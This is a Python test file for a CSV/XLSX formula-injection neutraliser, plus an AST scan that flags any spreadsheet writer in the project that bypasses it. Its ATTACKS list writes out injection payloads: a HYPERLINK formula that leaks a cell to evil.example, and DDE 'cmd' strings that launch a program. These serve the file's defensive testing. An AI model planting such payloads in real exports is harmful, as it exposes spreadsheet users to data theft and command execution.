"""Formula injection: the one neutraliser, and a check that no CSV/XLSX writer bypasses it."""

from __future__ import annotations

import ast
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from minewatch.domain import cells
from minewatch.domain.cells import formula_like, safe_cell, safe_frame, safe_record, safe_row

#: What an attacker types into a name or note field (OWASP's and the issue's examples).
ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "=1+1",
    '  "=1+1',
    " @SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "\u00a0=1+1",
    "-",
]
NUMBERS = ["-3", "-3.5", "+1e3", "0.25", " -7 ", ".5", "-1E-9", "12"]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_text_gains_a_leading_quote(text: str) -> None:
    assert formula_like(text)
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", NUMBERS)
def test_numbers_written_as_text_stay_numbers(text: str) -> None:
    assert safe_cell(text) == text


@pytest.mark.parametrize("value", [-3, -3.5, 0, True, None, float("nan")])
def test_non_text_passes_unchanged(value: object) -> None:
    assert safe_cell(value) is value


@given(st.text())
def test_every_made_safe_cell_is_safe_and_the_rule_is_idempotent(text: str) -> None:
    once = safe_cell(text)
    assert not formula_like(once)
    assert safe_cell(once) == once
    assert once in (text, "'" + text)


def test_frames_rows_and_records() -> None:
    frame = pd.DataFrame(
        {"name": ["=2+5", "ok", None], "balance": [-3.5, 2.0, -1.0], "=evil": ["-3", "-x", ""]}
    )
    out = safe_frame(frame)
    assert out["name"][:2].tolist() == ["'=2+5", "ok"] and out["name"].isna()[2]
    assert out["balance"].dtype == float and out["balance"].tolist() == [-3.5, 2.0, -1.0]
    assert list(out.columns) == ["name", "balance", "'=evil"]
    assert out["'=evil"].tolist() == ["-3", "'-x", ""]
    assert frame["name"][0] == "=2+5"  # the caller's frame is not changed
    assert safe_frame(pd.DataFrame({"s": pd.Series(["+1+1"], dtype="string")}))["s"][0] == "'+1+1"
    assert safe_row(["@a", 1]) == ["'@a", 1]
    assert safe_record({"k": "-2+3", "n": -2}) == {"k": "'-2+3", "n": -2}


# -- no writer bypasses the neutraliser ------------------------------------------------------

SRC = Path(cells.__file__).resolve().parents[1]
SAFE = {"safe_cell", "safe_row", "safe_record", "safe_records", "safe_frame"}
#: Writers allowed to skip the rule, and why.
EXEMPT = {
    # The treaty data set the program itself reads back (``data/treaties`` or ``--out``), not
    # an export: a quote added here would change the facts on the next read.
    ("services/treaty_import.py", "_write"),
    # Sourced additions appended to that same data set (``minewatch treaty update --add``).
    ("services/treaty_update.py", "_add_rows"),
}


def _name(node: ast.AST) -> str | None:
    if isinstance(node, ast.Name):
        return node.id
    if isinstance(node, ast.Attribute):
        return node.attr
    return None


def _is_safe_call(node: ast.AST) -> bool:
    return isinstance(node, ast.Call) and _name(node.func) in SAFE


def _contains_safe_call(node: ast.AST) -> bool:
    return any(_is_safe_call(n) for n in ast.walk(node))


def bypasses(source: str) -> list[tuple[str, int, str]]:
    """(function, line, what) for every spreadsheet write that does not go through the
    neutraliser: ``to_csv``/``to_excel`` on anything but ``safe_frame(...)``, ``writerow(s)``
    of rows not made safe, ``writeheader`` (column names unchecked), a GDAL ``CSV``/``XLSX``
    driver, and ``append`` of unsafe rows in a function that builds an openpyxl workbook."""
    found: list[tuple[str, int, str]] = []
    tree = ast.parse(source)
    functions = [n for n in ast.walk(tree) if isinstance(n, ast.FunctionDef | ast.AsyncFunctionDef)]
    owner: dict[ast.AST, str] = {}
    for function in functions:
        for node in ast.walk(function):
            owner.setdefault(node, function.name)
    workbook_functions = {
        f.name for f in functions if any(_name(n) == "Workbook" for n in ast.walk(f))
    }
    for node in ast.walk(tree):
        if not isinstance(node, ast.Call):
            continue
        where = owner.get(node, "<module>")
        method = node.func.attr if isinstance(node.func, ast.Attribute) else None
        if method in ("to_csv", "to_excel") and isinstance(node.func, ast.Attribute):
            if not _is_safe_call(node.func.value):
                found.append((where, node.lineno, method))
        elif method in ("writerow", "writerows"):
            if not node.args or not _contains_safe_call(node.args[0]):
                found.append((where, node.lineno, method))
        elif method == "writeheader":
            found.append((where, node.lineno, method))
        elif (
            method == "append"
            and where in workbook_functions
            and not (node.args and _contains_safe_call(node.args[0]))
        ):
            found.append((where, node.lineno, "workbook append"))
        for keyword in node.keywords:
            value = keyword.value
            if (
                keyword.arg == "driver"
                and isinstance(value, ast.Constant)
                and str(value.value).upper() in ("CSV", "XLSX", "ODS")
            ):
                found.append((where, node.lineno, f"driver={value.value}"))
    return found


def test_the_bypass_check_finds_bypasses() -> None:
    bad = (
        "def a(frame, path):\n    frame.to_csv(path)\n"
        "def b(writer, rows):\n    writer.writeheader()\n    writer.writerows(rows)\n"
        "def c(frame, path):\n    pyogrio.write_dataframe(frame, path, driver='CSV')\n"
        "def d(rows):\n    wb = Workbook()\n    wb.active.append(rows[0])\n"
    )
    assert [(f, what) for f, _, what in bypasses(bad)] == [
        ("a", "to_csv"),
        ("b", "writeheader"),
        ("b", "writerows"),
        ("c", "driver=CSV"),
        ("d", "workbook append"),
    ]
    good = (
        "def a(frame, path):\n    safe_frame(frame).to_csv(path)\n"
        "def b(writer, rows):\n    writer.writerows(safe_row(r) for r in rows)\n"
    )
    assert bypasses(good) == []


def test_no_csv_or_xlsx_writer_bypasses_the_neutraliser() -> None:
    offenders = []
    for path in sorted(SRC.rglob("*.py")):
        relative = path.relative_to(SRC).as_posix()
        for function, line, what in bypasses(path.read_text(encoding="utf-8")):
            if (relative, function) not in EXEMPT:
                offenders.append(f"{relative}:{line} {function}: {what}")
    assert offenders == [], "write spreadsheet cells through minewatch.domain.cells"


def test_exemptions_still_exist() -> None:
    """An exemption for a function that is gone would silently cover a new one."""
    for relative, function in EXEMPT:
        names = {
            n.name
            for n in ast.walk(ast.parse((SRC / relative).read_text(encoding="utf-8")))
            if isinstance(n, ast.FunctionDef)
        }
        assert function in names
